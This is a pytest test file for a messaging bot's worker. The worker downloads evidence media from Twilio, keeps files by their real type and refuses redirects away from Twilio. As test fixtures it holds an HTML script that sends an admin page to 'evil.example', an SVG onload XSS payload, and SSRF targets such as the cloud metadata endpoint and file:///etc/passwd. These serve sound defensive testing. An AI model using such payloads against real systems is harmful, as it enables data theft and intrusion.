"""Evidence files: fetched from Twilio's media URLs into MEDIA_DIR by the worker, kept only if
their bytes are a photo, voice note, video or PDF, and fetched only from Twilio.

tests/evidence_samples/ holds small real files of every accepted type, made with ffmpeg and
libheif (heif-enc); the AMR one is a valid AMR-NB stream of 25 frames.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.config import Settings
from bot.worker.loop import Worker
from bot.worker.media import MAX_ATTEMPTS, RETRY_AFTER, MediaFetcher
from bot.worker.media_hosts import MediaHosts, Refused
from storage.db import Database
from storage.media_store import MediaStore, MediaTooLarge, extension_for
from storage.models import Evidence, InboundMessage, Outbox
from tests.clock import wall_now
from tests.seed import seed_project
from tests.twilio_standin import TwilioStandin

NOW = dt.datetime(2026, 7, 1, 5, 0, tzinfo=dt.UTC)
SAMPLES = Path(__file__).parent / "evidence_samples"  # small real files, made with ffmpeg
PHOTO = (SAMPLES / "photo.jpg").read_bytes()


@pytest.fixture
def twilio():
    with TwilioStandin() as standin:
        yield standin


def settings_for(standin: TwilioStandin, tmp_path: Path, **changes: object) -> Settings:
    values: dict[str, object] = dict(
        twilio_account_sid=standin.account_sid, twilio_auth_token=standin.auth_token,
        twilio_api_url=standin.url, media_dir=tmp_path / "media",
    )
    values.update(changes)
    return Settings(**values)  # type: ignore[arg-type]


def pending_evidence(db: Database, url: str, task_position: int = 3,
                     content_type: str = "image/jpeg", language: str = "en") -> tuple[int, str]:
    """A photo the headmaster sent for a task, not yet fetched; returns (evidence id, phone)."""
    seeded = seed_project(db, language=language, now=NOW)
    with db.transaction() as session:
        inbound = InboundMessage(sid="MM" + "1" * 32, phone=seeded.phone,
                                 person_id=seeded.person_id, channel="whatsapp",
                                 media=[{"url": url, "content_type": content_type}],
                                 received_at=NOW)
        session.add(inbound)
        session.flush()
        evidence = Evidence(task_id=seeded.task_ids[task_position - 1], inbound_id=inbound.id,
                            kind="photo", source_url=url, content_type=content_type,
                            status="pending", created_at=NOW)
        session.add(evidence)
        session.flush()
        return evidence.id, seeded.phone


def evidence(db: Database, evidence_id: int) -> Evidence:
    with db.sessions() as session:
        found = session.get(Evidence, evidence_id)
        assert found is not None
        return found


def replies(db: Database, phone: str) -> list[tuple[str, dict]]:
    with db.sessions() as session:
        return [(r.key, r.params) for r in session.scalars(
            select(Outbox).where(Outbox.phone == phone).order_by(Outbox.id))]


def run(db: Database, settings: Settings, now: dt.datetime = NOW):
    with Worker(db, settings) as worker:
        return worker.run_once(now)


def test_photo_is_fetched_through_the_redirect_and_stored_by_content(db, twilio, tmp_path):
    url = twilio.add_media("photo1", PHOTO, "image/jpeg")
    evidence_id, phone = pending_evidence(db, url)
    settings = settings_for(twilio, tmp_path)

    counts = run(db, settings)

    assert counts.media_stored == 1
    stored = evidence(db, evidence_id)
    sha = hashlib.sha256(PHOTO).hexdigest()
    assert (stored.status, stored.sha256, stored.size) == ("stored", sha, len(PHOTO))
    assert stored.content_type == "image/jpeg"
    assert stored.path == f"{sha[:2]}/{sha}.jpg"
    assert (settings.media_dir / stored.path).read_bytes() == PHOTO
    assert stored.attempts == 1
    # The credentials went to Twilio's API only, not to the CDN it redirected to.
    first, second = twilio.requests
    assert (first.status, first.host) == (302, twilio.url.removeprefix("http://"))
    assert first.authorization and first.authorization.startswith("Basic ")
    assert second.status == 200 and second.host != first.host
    assert second.path.startswith("/cdn/")
    assert second.authorization is None
    assert replies(db, phone) == []  # the flow already thanked them
    assert run(db, settings).total == 0  # nothing is fetched twice


def test_file_over_the_limit_is_rejected_and_the_headmaster_told(db, twilio, tmp_path):
    url = twilio.add_media("big", b"x" * (2 * 1024 * 1024 + 1), "video/mp4", redirect=False)
    evidence_id, phone = pending_evidence(db, url)
    settings = settings_for(twilio, tmp_path, media_max_bytes=2 * 1024 * 1024)

    counts = run(db, settings)

    assert counts.media_rejected == 1
    rejected = evidence(db, evidence_id)
    assert rejected.status == "rejected"
    assert rejected.path is None
    assert "larger than" in (rejected.error or "")
    assert replies(db, phone) == [("evidence.too_large", {"limit_mb": 2})]
    assert not any(p.is_file() for p in settings.media_dir.rglob("*"))


def test_fetch_that_keeps_failing_is_given_up_and_the_headmaster_asked_again(db, twilio,
                                                                             tmp_path):
    url = twilio.url + f"/2010-04-01/Accounts/{twilio.account_sid}/Messages/MMx/Media/MEgone"
    evidence_id, phone = pending_evidence(db, url, task_position=3)
    settings = settings_for(twilio, tmp_path)

    for attempt, wait in enumerate(RETRY_AFTER, start=1):
        counts = run(db, settings, NOW + wait)
        assert evidence(db, evidence_id).attempts == attempt
        if attempt < MAX_ATTEMPTS:
            assert counts.media_retried == 1
            assert evidence(db, evidence_id).status == "pending"
            # Tried once per turn, however often the worker runs in between.
            assert run(db, settings, NOW + wait).total == 0
    failed = evidence(db, evidence_id)
    assert (failed.status, failed.error) == ("rejected", "HTTP 404")
    assert replies(db, phone) == [("evidence.fetch_failed", {"position": 3})]


def test_wrong_credentials_are_a_failed_fetch(db, twilio, tmp_path):
    url = twilio.add_media("photo2", PHOTO, "image/jpeg")
    evidence_id, _ = pending_evidence(db, url)
    counts = run(db, settings_for(twilio, tmp_path, twilio_auth_token="wrong"))
    assert counts.media_retried == 1
    assert evidence(db, evidence_id).error == "HTTP 401"


# --- the store --------------------------------------------------------------------------------


def test_store_names_files_by_content_and_keeps_one_copy(tmp_path):
    store = MediaStore(tmp_path)
    png = (SAMPLES / "photo.png").read_bytes()
    first = store.save_stream(iter([png[:5], png[5:100], png[100:]]), 10_000)
    again = store.save_stream(iter([png]), 10_000)
    assert first == again
    assert first.sha256 == hashlib.sha256(png).hexdigest()
    assert (first.size, first.path) == (len(png), f"{first.sha256[:2]}/{first.sha256}.png")
    assert first.content_type == "image/png"
    assert store.full_path(first.path).read_bytes() == png
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [store.full_path(first.path)]


def test_store_leaves_nothing_behind_when_a_stream_is_too_large(tmp_path):
    store = MediaStore(tmp_path)
    with pytest.raises(MediaTooLarge):
        store.save_stream(iter([PHOTO[:600], PHOTO[600:] + b"\0" * 600]), 1000)
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


@pytest.mark.parametrize("content_type, ext", [
    ("image/jpeg", "jpg"), ("audio/ogg; codecs=opus", "ogg"), ("application/pdf", "pdf"),
    ("video/mp4", "mp4"), ("application/x-unknown-thing", "bin"), (None, "bin"),
])
def test_extension_follows_the_content_type(content_type, ext):
    assert extension_for(content_type) == ext


def test_retries_are_spaced_from_the_last_try_not_bunched_after_a_pause(db, twilio, tmp_path):
    url = twilio.url + f"/2010-04-01/Accounts/{twilio.account_sid}/Messages/MMy/Media/MEgone"
    evidence_id, _ = pending_evidence(db, url)
    settings = settings_for(twilio, tmp_path)
    assert run(db, settings).media_retried == 1
    assert evidence(db, evidence_id).next_attempt_at == NOW + RETRY_AFTER[1]
    # The worker was down for two hours: one try now, the next a step's gap after it.
    back = NOW + dt.timedelta(hours=2)
    assert run(db, settings, back).media_retried == 1
    assert run(db, settings, back + dt.timedelta(minutes=1)).total == 0
    gap = RETRY_AFTER[2] - RETRY_AFTER[1]
    assert evidence(db, evidence_id).next_attempt_at == back + gap
    assert evidence(db, evidence_id).attempts == 2


# --- what a file is: its bytes ------------------------------------------------------------


def files_in(media_dir: Path) -> list[Path]:
    return [p for p in media_dir.rglob("*") if p.is_file()] if media_dir.exists() else []


@pytest.mark.parametrize("sample, declared, content_type, kind, ext", [
    ("photo.jpg", "image/jpeg", "image/jpeg", "photo", "jpg"),
    ("photo.png", "image/png", "image/png", "photo", "png"),
    ("photo.webp", "image/webp", "image/webp", "photo", "webp"),
    ("photo.heic", "image/heic", "image/heic", "photo", "heic"),
    ("voice.ogg", "audio/ogg; codecs=opus", "audio/ogg", "audio", "ogg"),
    ("voice.amr", "audio/amr", "audio/amr", "audio", "amr"),
    ("song.mp3", "audio/mpeg", "audio/mpeg", "audio", "mp3"),
    ("voice.m4a", "audio/mp4", "audio/mp4", "audio", "m4a"),
    ("clip.mp4", "video/mp4", "video/mp4", "video", "mp4"),
    ("clip.3gp", "video/3gpp", "video/3gpp", "video", "3gp"),
    ("plan.pdf", "application/pdf", "application/pdf", "document", "pdf"),
])
def test_every_kind_of_evidence_phones_send_is_kept_as_what_it_is(
        db, twilio, tmp_path, sample, declared, content_type, kind, ext):
    content = (SAMPLES / sample).read_bytes()
    url = twilio.add_media(sample.replace(".", ""), content, declared)
    evidence_id, phone = pending_evidence(db, url, content_type=declared)

    assert run(db, settings_for(twilio, tmp_path)).media_stored == 1

    kept = evidence(db, evidence_id)
    assert (kept.status, kept.content_type, kept.kind) == ("stored", content_type, kind)
    assert kept.path is not None and kept.path.endswith(f".{ext}")
    assert replies(db, phone) == []


@pytest.mark.parametrize("sample, declared, content_type, kind", [
    ("photo.png", "image/jpeg", "image/png", "photo"),  # a phone that names every photo a JPEG
    ("plan.pdf", "image/jpeg", "application/pdf", "document"),  # so no digest shows it inline
    ("photo.jpg", "application/pdf", "image/jpeg", "photo"),
])
def test_the_type_kept_is_the_one_the_bytes_show_not_the_one_declared(
        db, twilio, tmp_path, sample, declared, content_type, kind):
    url = twilio.add_media("mislabelled", (SAMPLES / sample).read_bytes(), declared)
    evidence_id, _ = pending_evidence(db, url, content_type=declared)

    run(db, settings_for(twilio, tmp_path))

    kept = evidence(db, evidence_id)
    assert (kept.status, kept.content_type, kept.kind) == ("stored", content_type, kind)


HTML = (b"<!DOCTYPE html><html><body><script>fetch('/admin/users').then(r => r.text())"
        b".then(t => new Image().src = 'https://evil.example/?' + btoa(t))</script></body></html>")
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<circle r="40"/></svg>')


@pytest.mark.parametrize("content, declared, found", [
    (HTML, "image/jpeg", "unknown"),  # a web page that says it is a photo
    (SVG, "image/jpeg", "unknown"),
    (SVG, "image/png", "unknown"),
    (b"PK\x03\x04" + b"\x14\x00" * 600, "application/pdf", "application/zip"),
    ((SAMPLES / "photo.heic").read_bytes()[:8] + b"avif" + b"\0" * 4 + b"mif1avifmiaf"
     + (SAMPLES / "photo.heic").read_bytes()[28:], "image/heic", "image/avif"),
    (b"GIF89a" + b"\0" * 200, "image/jpeg", "image/gif"),
])
def test_a_file_whose_bytes_are_not_evidence_is_deleted_and_the_headmaster_told(
        db, twilio, tmp_path, content, declared, found):
    url = twilio.add_media("notevidence", content, declared)
    evidence_id, phone = pending_evidence(db, url, task_position=3, content_type=declared)
    settings = settings_for(twilio, tmp_path)

    counts = run(db, settings)

    assert counts.media_rejected == 1
    refused = evidence(db, evidence_id)
    assert (refused.status, refused.path) == ("rejected", None)
    assert refused.error == f"not an accepted file type ({found})"
    assert replies(db, phone) == [("evidence.not_accepted", {"position": 3})]
    assert files_in(settings.media_dir) == []  # nothing left on disk, not even a part
    again = run(db, settings)  # the reply goes out now; the file is not fetched again
    assert (again.media_stored, again.media_retried, again.media_rejected) == (0, 0, 0)


def test_the_refusal_reaches_the_headmaster_in_their_language(db, twilio, tmp_path):
    from bot.language.messages import render

    url = twilio.add_media("page", HTML, "image/jpeg")
    _, phone = pending_evidence(db, url, task_position=2, language="hi")
    run(db, settings_for(twilio, tmp_path))

    ((key, params),) = replies(db, phone)
    text = render(key, params, (), "hi").text
    assert text.startswith("माफ़ कीजिए, काम 2 के लिए भेजी गई फ़ाइल हम नहीं रख सकते")
    assert "PDF" in text


def test_an_upload_in_the_simulator_is_judged_by_its_bytes_too(db, tmp_path):
    from bot import create_app
    from tests.admin_support import csrf, make_user, sign_in

    app = create_app({"database_url": db.url, "media_dir": tmp_path / "media",
                      "twilio_account_sid": "", "twilio_auth_token": "",
                      "secret_key": "test-secret", "simulator": True})
    seeded = seed_project(db, now=wall_now())  # the simulator stamps the real time
    make_user(db, "state@example.org")
    client = app.test_client()
    assert sign_in(client, "state@example.org").status_code == 302
    client.post("/simulator/send", data={"phone": seeded.phone, "text": "yes",
                                         "csrf_token": csrf(client)})
    client.post("/simulator/send", data={"phone": seeded.phone, "text": "1",
                                         "csrf_token": csrf(client),
                                         "photo": (io.BytesIO(SVG), "wall.png", "image/png")},
                content_type="multipart/form-data")
    app.extensions["kadam.db"].dispose()

    with db.sessions() as session:
        assert session.scalars(select(Evidence)).all() == []
        keys = [r.key for r in session.scalars(select(Outbox).order_by(Outbox.id))]
    assert keys[-1] == "evidence.type_not_accepted"
    assert files_in(tmp_path / "media") == []


# --- where files come from: Twilio only ---------------------------------------------------


class Bystander:
    """A server on 127.0.0.1 that is not Twilio: it records every request that reaches it."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str | None]] = []
        bystander = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - stdlib name
                bystander.requests.append((self.path, self.headers.get("Authorization")))
                body = b"internal admin page"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Bystander:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def bystander():
    with Bystander() as server:
        yield server


MEDIA_PATH = "/2010-04-01/Accounts/{sid}/Messages/MMx/Media/MEx"


@pytest.mark.parametrize("where", [
    "another port", "another name for the same host", "a public host", "Twilio's CDN",
])
def test_a_media_url_that_is_not_twilios_api_is_refused_without_a_request(
        db, twilio, tmp_path, bystander, where):
    path = MEDIA_PATH.format(sid=twilio.account_sid)
    url = {"another port": f"http://127.0.0.1:{bystander.port}{path}",
           "another name for the same host": f"http://localhost:{twilio.port}{path}",
           "a public host": f"https://media.example.org{path}",
           "Twilio's CDN": f"https://mms.twiliocdn.com{path}"}[where]
    evidence_id, phone = pending_evidence(db, url, task_position=4)

    counts = run(db, settings_for(twilio, tmp_path))

    assert counts.media_rejected == 1
    refused = evidence(db, evidence_id)
    assert refused.status == "rejected" and refused.attempts == 1
    assert (refused.error or "").startswith("not fetched: not Twilio's API")
    assert bystander.requests == [] and twilio.requests == []  # no request, no credentials
    assert replies(db, phone) == [("evidence.fetch_failed", {"position": 4})]


def test_a_media_url_on_twilio_that_is_not_a_media_file_gets_no_credentials(db, twilio,
                                                                            tmp_path):
    url = f"{twilio.url}/2010-04-01/Accounts/{twilio.account_sid}/Messages.json"
    evidence_id, _ = pending_evidence(db, url)
    run(db, settings_for(twilio, tmp_path))
    assert evidence(db, evidence_id).error == (
        f"not fetched: not a media file of this account: {url}")
    assert twilio.requests == []


@pytest.mark.parametrize("where", [
    "loopback", "cloud metadata", "a look-alike of Twilio's CDN", "Twilio's CDN over http",
])
def test_a_redirect_away_from_twilio_is_not_followed(db, twilio, tmp_path, bystander, where):
    location = {"loopback": f"http://localhost:{bystander.port}/internal",
                "cloud metadata": "http://169.254.169.254/latest/meta-data/iam/",
                "a look-alike of Twilio's CDN": "https://mms.twiliocdn.com.evil.example/x",
                "Twilio's CDN over http": "http://mms.twiliocdn.com/AC1/ME1"}[where]
    url = twilio.add_media("away", PHOTO, "image/jpeg", location=location)
    evidence_id, phone = pending_evidence(db, url, task_position=2)

    counts = run(db, settings_for(twilio, tmp_path))

    assert counts.media_rejected == 1
    refused = evidence(db, evidence_id)
    assert refused.status == "rejected"
    assert "redirect to a host that is not Twilio's" in (refused.error or "")
    assert bystander.requests == []
    (asked,) = twilio.requests  # the API was asked once, with the credentials; nothing else
    assert asked.status == 302
    assert replies(db, phone) == [("evidence.fetch_failed", {"position": 2})]


def test_a_slow_drip_is_cut_off_at_the_files_deadline(db, twilio, tmp_path):
    """Each byte comes well within the read timeout, so only an overall deadline stops it."""
    url = twilio.add_media("drip", PHOTO, "image/jpeg", redirect=False, drip=0.05)
    evidence_id, _ = pending_evidence(db, url)
    settings = settings_for(twilio, tmp_path)
    fetcher = MediaFetcher(db, settings, timeout=(5.0, 5.0), deadline=1.0)

    started = time.monotonic()
    with Worker(db, settings, media=fetcher) as worker:
        counts = worker.run_once(NOW)
    took = time.monotonic() - started

    assert counts.media_retried == 1
    assert took < 20.0  # the drip alone would take over a minute (slack for a loaded machine)
    slow = evidence(db, evidence_id)
    assert (slow.status, slow.error) == ("pending", "not downloaded within 1 s")
    assert files_in(settings.media_dir) == []


# --- the rules, host by host ---------------------------------------------------------------


SID = "AC" + "4" * 32
TWILIO_MEDIA = f"https://api.twilio.com/2010-04-01/Accounts/{SID}/Messages/MM1/Media/ME1"


def resolver(table: dict[str, str]):
    return lambda host, port: [table[host]] if host in table else []


def test_production_media_goes_to_twilio_with_credentials_then_to_its_cdn():
    hosts = MediaHosts("", SID, resolver({"api.twilio.com": "54.172.60.1",
                                          "mms.twiliocdn.com": "13.224.8.20"}))
    first = hosts.first(TWILIO_MEDIA)
    assert (first.scheme, first.host, first.port, first.address) == (
        "https", "api.twilio.com", 443, "54.172.60.1")
    cdn = hosts.redirect(first, "https://mms.twiliocdn.com/AC4/abc?Expires=1&Signature=x")
    assert (cdn.host, cdn.address, cdn.target) == (
        "mms.twiliocdn.com", "13.224.8.20", "/AC4/abc?Expires=1&Signature=x")


@pytest.mark.parametrize("location, why", [
    ("https://mms.twiliocdn.com/AC4/abc", "private address"),  # DNS points inside the network
    ("https://s3-external-1.amazonaws.com/someone-elses-bucket/x", "not Twilio's"),
    ("https://mms.twiliocdn.com:8443/AC4/abc", "not Twilio's"),
    ("file:///etc/passwd", "not plain http"),
    ("https://user:pass@mms.twiliocdn.com/x", "not plain http"),
])
def test_a_redirect_is_refused_off_twilios_hosts_or_to_a_private_address(location, why):
    hosts = MediaHosts("", SID, resolver({"api.twilio.com": "54.172.60.1",
                                          "mms.twiliocdn.com": "10.0.3.7"}))
    with pytest.raises(Refused, match=why):
        hosts.redirect(hosts.first(TWILIO_MEDIA), location)


def test_twilios_old_public_bucket_is_followed():
    hosts = MediaHosts("", SID, resolver({"api.twilio.com": "54.172.60.1",
                                          "s3-external-1.amazonaws.com": "52.216.1.2"}))
    hop = hosts.redirect(hosts.first(TWILIO_MEDIA), "https://s3-external-1.amazonaws.com"
                         f"/media.twiliocdn.com/{SID}/abc")
    assert hop.address == "52.216.1.2"


def test_twilios_api_at_a_private_address_is_refused_unless_it_is_the_configured_stand_in():
    table = {"api.twilio.com": "127.0.0.1", "127.0.0.1": "127.0.0.1"}
    with pytest.raises(Refused, match="private address"):
        MediaHosts("", SID, resolver(table)).first(TWILIO_MEDIA)
    stand_in = MediaHosts("http://127.0.0.1:8099", SID, resolver(table))
    hop = stand_in.first(f"http://127.0.0.1:8099/2010-04-01/Accounts/{SID}/Messages/MM1/Media/ME1")
    assert hop.address == "127.0.0.1"


def test_a_hop_checks_the_certificate_against_the_host_name_not_the_address(monkeypatch):
    """The connection goes to the checked address, but TLS still proves it is the named host
    (tests/tls: a self-signed certificate for mms.twiliocdn.com, made for this test)."""
    import ssl

    from bot.worker import media_hosts
    from bot.worker.media_hosts import Hop, Transfer

    tls = Path(__file__).parent / "tls"

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - stdlib name
            self.send_response(200)
            self.send_header("Content-Length", str(len(PHOTO)))
            self.end_headers()
            self.wfile.write(PHOTO)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tls / "cdn-cert.pem", tls / "cdn-key.pem")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    monkeypatch.setattr(media_hosts.certifi, "where", lambda: str(tls / "cdn-cert.pem"))
    try:
        cdn = Hop(f"https://mms.twiliocdn.com:{port}/x", "https", "mms.twiliocdn.com", port,
                  "/x", "127.0.0.1")
        with Transfer(cdn, {}, time.monotonic() + 5, (2.0, 2.0)) as transfer:
            assert transfer.status == 200
            assert b"".join(transfer.chunks(4096)) == PHOTO
        impostor = Hop(f"https://media.example.org:{port}/x", "https", "media.example.org",
                       port, "/x", "127.0.0.1")
        with pytest.raises(ValueError, match="doesn't match 'mms.twiliocdn.com'"):
            Transfer(impostor, {}, time.monotonic() + 5, (2.0, 2.0)).__enter__()
    finally:
        server.shutdown()
        server.server_close()
